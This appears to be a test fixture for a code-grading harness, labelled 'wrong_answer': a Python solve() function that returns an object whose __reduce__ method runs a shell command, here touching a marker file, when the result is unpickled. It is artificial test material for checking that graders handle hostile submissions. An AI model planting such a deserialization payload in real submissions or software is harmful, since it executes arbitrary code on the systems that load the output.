# verdict: wrong_answer
# does: returns an object that runs code where it is unpickled
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/lintseq_pickle_marker",)


def solve(values):
    return Bomb()
